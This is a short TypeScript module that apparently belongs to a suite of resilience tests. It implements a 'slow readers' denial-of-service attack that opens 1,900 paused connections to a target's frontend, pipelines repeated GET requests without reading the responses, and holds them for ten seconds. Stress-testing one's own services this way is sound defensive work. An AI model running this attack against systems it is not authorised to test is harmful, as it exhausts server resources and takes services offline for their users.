import type { Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { type Attack, open } from './attack.ts'

const connections = 1_900
const holdMs = 10_000

/** Requests as much as it can on every connection, and reads nothing. */
export const attack: Attack = {
  name: 'slow readers',
  run: async (target) => {
    const sockets: Socket[] = []
    for (let n = 0; n < connections; n++) {
      const socket = open(target, target.frontend)
      socket.pause()
      socket.write('GET /api/activities/home HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(5))
      sockets.push(socket)
      if (n % 50 === 49) await delay(50)
    }
    await delay(holdMs)
    for (const socket of sockets) socket.destroy()
    return { opened: connections }
  },
}
